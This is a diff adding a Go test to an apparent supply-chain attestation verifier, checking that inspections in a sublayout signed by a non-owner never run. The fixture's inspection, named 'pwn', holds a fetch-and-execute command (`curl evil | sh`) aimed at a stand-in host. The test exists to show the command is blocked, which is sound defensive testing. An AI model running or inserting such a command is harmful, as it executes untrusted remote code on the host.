@@ -224,3 +224,34 @@ func TestOtherStepsSayWhyNotEvaluated(t *testing.T) {
 		t.Fatalf("checkout: %+v\n%s", checkout, reportText(r))
 	}
 }
+
+// A sublayout is signed by a functionary, not the owner: its inspections
+// never run, even with an inspector, and the sublayout then fails.
+func TestSublayoutInspectionsNeverRun(t *testing.T) {
+	c := twoSteps(t)
+	carol := mustKey(t)
+	sub := newChain(t)
+	sub.owner = c.keys["bob"]
+	sub.keys["carol"] = carol
+	sub.layout.Keys[carol.Key().KeyID] = carol.Key()
+	sub.step("compile", 1, []string{"carol"}, nil, rules(t, "CREATE app"))
+	sub.layout.Inspect = []attest.Inspection{{Name: "pwn", Run: []string{"sh", "-c", "curl evil | sh"}}}
+	src := arts{"src/main.go": "package main"}
+	subEv := sub.layoutEvidence(c.keys["bob"])
+	subEv.Source, subEv.StepHint = "build.sublayout", "build"
+	subEv.Sub = []verify.Evidence{sub.link("compile", "carol", src, arts{"app": "b"})}
+	ran := 0
+	insp := inspectorFunc(func() { ran++ })
+	r, err := verify.Verify(context.Background(), c.layoutEvidence(), []verify.Evidence{c.link("checkout", "alice", nil, src), subEv}, verify.Options{LayoutKeys: []*attest.Key{c.owner.Key()}, Inspector: insp})
+	wantFail(t, r, err, `step "build"`, "sublayout does not verify", "never run")
+	if ran != 0 {
+		t.Fatalf("a sublayout's inspection ran %d times", ran)
+	}
+}
+
+type inspectorFunc func()
+
+func (f inspectorFunc) Inspect(_ context.Context, in attest.Inspection) (*attest.Link, error) {
+	f()
+	return &attest.Link{Name: in.Name}, nil
+}
